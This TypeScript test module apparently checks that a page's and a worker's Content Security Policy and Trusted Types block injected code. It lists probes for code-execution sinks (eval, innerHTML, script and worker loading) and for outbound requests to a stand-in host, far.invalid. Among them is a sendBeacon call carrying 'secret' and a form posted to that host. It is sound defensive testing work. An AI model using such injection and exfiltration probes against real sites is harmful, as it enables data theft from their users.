// Every way out of a page or a worker, and every way for text to become code, as a program tries it that got in somehow:
// what it does, and what has to become of it under our policy. Knows nothing of how the policy is served.

/** The code of one try. */
type Try = string

/** In place of a server that is not ours: `.invalid` never resolves (RFC 2606), so whatever gets out is a request to it. */
const FAR = 'https://far.invalid'

const element = (tag: string, properties: string, put = true) =>
  `const e = Object.assign(document.createElement('${tag}'), ${properties}); ${put ? 'document.body.append(e)' : ''}`

/** A try, the directive that refuses it, and a piece of what is told to be refused. */
type Refused = [code: Try, directive: string, what: string]

/** Text that would become code: each is refused by an error of this name. */
export const SINKS: Record<string, [code: Try, error: string]> = {
  eval: [`(0, eval)('1')`, 'EvalError'],
  'a function from text': [`new Function('return 1')()`, 'EvalError'],
  'a timer from text': [`setTimeout('1')`, 'TypeError'],
  'HTML in an element': [`document.body.innerHTML = '<b>x</b>'`, 'TypeError'],
  'HTML in place of an element': [`document.body.firstElementChild.outerHTML = '<b>x</b>'`, 'TypeError'],
  'HTML beside an element': [`document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`, 'TypeError'],
  'HTML without a filter': [`document.body.setHTMLUnsafe('<b>x</b>')`, 'TypeError'],
  'HTML in a range': [`document.createRange().createContextualFragment('<b>x</b>')`, 'TypeError'],
  'HTML in the document': [`document.write('<b>x</b>')`, 'TypeError'],
  'a document from text': [`new DOMParser().parseFromString('<b>x</b>', 'text/html')`, 'TypeError'],
  'a page in a frame': [`document.createElement('iframe').srcdoc = '<b>x</b>'`, 'TypeError'],
  'an object': [element('object', `{ data: '${FAR}/x.svg', type: 'image/svg+xml' }`), 'TypeError'],
  'an embedded page': [element('embed', `{ src: '${FAR}/y.svg', type: 'image/svg+xml' }`), 'TypeError'],
  'a script from text': [`document.createElement('script').textContent = '1'`, 'TypeError'],
  'a script by its address': [`document.createElement('script').src = './assets/probe.js'`, 'TypeError'],
  'an inline handler': [`document.createElement('b').setAttribute('onclick', '1')`, 'TypeError'],
  'a worker by plain address': [`new Worker('./assets/probe.js')`, 'TypeError'],
  'a shared worker by plain address': [`new SharedWorker('./assets/probe.js')`, 'TypeError'],
  'a service worker by plain address': [`await navigator.serviceWorker.register('./other.js')`, 'TypeError'],
  'a policy of its own': [`trustedTypes.createPolicy('mine', {})`, 'TypeError'],
  'our policy once more': [`trustedTypes.createPolicy('app-worker', {})`, 'TypeError'],
}

/** What would be fetched from elsewhere: the directive that refuses it, and what it says was refused. */
export const fetches = (far: string): Record<string, Refused> => ({
  'a picture': [`new Image().src = '${FAR}/x.png'`, 'img-src', '/x.png'],
  'a film': [element('video', `{ src: '${FAR}/x.webm' }`), 'media-src', '/x.webm'],
  'a frame': [element('iframe', `{ src: '${FAR}/frame' }`), 'frame-src', FAR],
  'a style sheet': [element('link', `{ rel: 'stylesheet', href: '${FAR}/x.css' }`), 'style-src-elem', '/x.css'],
  'styles from text': [element('style', `{ textContent: 'b { color: red }' }`), 'style-src-elem', 'inline'],
  'a style attribute': [`document.body.setAttribute('style', 'color: red')`, 'style-src-attr', 'inline'],
  'a font': [`await new FontFace('x', 'url(${FAR}/x.woff2)').load().catch(() => undefined)`, 'font-src', '/x.woff2'],
  'a module': [`await import('${FAR}/module.js').catch(() => undefined)`, 'script-src-elem', '/module.js'],
  'something fetched ahead': [element('link', `{ rel: 'prefetch', href: '${far}/ahead' }`), 'default-src', '/ahead'],
  'an icon': [element('link', `{ rel: 'icon', href: '${FAR}/x.ico' }`), 'img-src', '/x.ico'],
  'a form': [`${element('form', `{ action: '${FAR}/form', method: 'post' }`)}; e.requestSubmit()`, 'form-action', FAR],
  'another base': [
    `document.head.append(Object.assign(document.createElement('base'), { href: '${FAR}/' }))`,
    'base-uri',
    FAR,
  ],
})

/** What would be sent, over a connection that nobody was given. */
export const sends = (far: string): Record<string, Refused> => ({
  fetch: sent(`await fetch('${far}/fetch').catch(() => undefined)`, '/fetch'),
  'an older request': sent(`const r = new XMLHttpRequest(); r.open('GET', '${far}/older'); r.send()`, '/older'),
  'a stream of events': sent(`new EventSource('${far}/events')`, '/events'),
  'a socket': sent(
    `try { new WebSocket('${far.replace(/^http/, 'ws')}/socket') } catch { /* refused at once */ }`,
    '/socket',
  ),
})
export const sendsOfPages = (far: string): Record<string, Refused> => ({
  ...sends(far),
  'a beacon': sent(`navigator.sendBeacon('${far}/beacon', 'secret')`, '/beacon'),
  'a ping': sent(
    `const a = Object.assign(document.createElement('a'), { href: '#', ping: '${far}/ping' }); document.body.append(a); a.click()`,
    '/ping',
  ),
})
const sent = (code: Try, what: string): Refused => [code, 'connect-src', what]

/** Of a worker: what of the above it can try. */
export const WORKER_SINKS: Record<string, [code: Try, error: string]> = {
  eval: [`(0, eval)('1')`, 'EvalError'],
  'a function from text': [`new Function('return 1')()`, 'EvalError'],
  'a timer from text': [`setTimeout('1')`, 'TypeError'],
  'a worker by plain address': [`new Worker('./probe.js')`, 'TypeError'],
  'a worker from elsewhere': [`new Worker('${FAR}/worker.js')`, 'TypeError'],
  'a policy of its own': [`trustedTypes.createPolicy('mine', {})`, 'TypeError'],
  'a script from elsewhere': [`await import('${FAR}/x.js')`, 'TypeError'],
}

/** The text of a function that makes all of these tries, one after the other: name to what stopped it. */
export function programOf(tries: Record<string, [code: Try, stopper: string, what?: string]>): string {
  const lines = Object.entries(tries).map(([name, [code, stopper, what = '']]) =>
    [JSON.stringify(name), `[async () => { ${code} }, ${JSON.stringify(stopper)}, ${JSON.stringify(what)}]`].join(': '),
  )
  return `
    const tries = { ${lines.join(',\n')} };
    async function outcomes() {
      const found = {};
      for (const [name, [run, stopper, what]] of Object.entries(tries)) {
        const told = new Promise((done) =>
          addEventListener('securitypolicyviolation', ({ effectiveDirective: by, blockedURI }) => {
            if (by === stopper && blockedURI.includes(what)) done(by);
          }));
        const late = new Promise((done) => setTimeout(done, 3000, 'nothing stopped it'));
        found[name] = await run().then(() => Promise.race([told, late]), (error) => error.name);
      }
      return found;
    }`
}
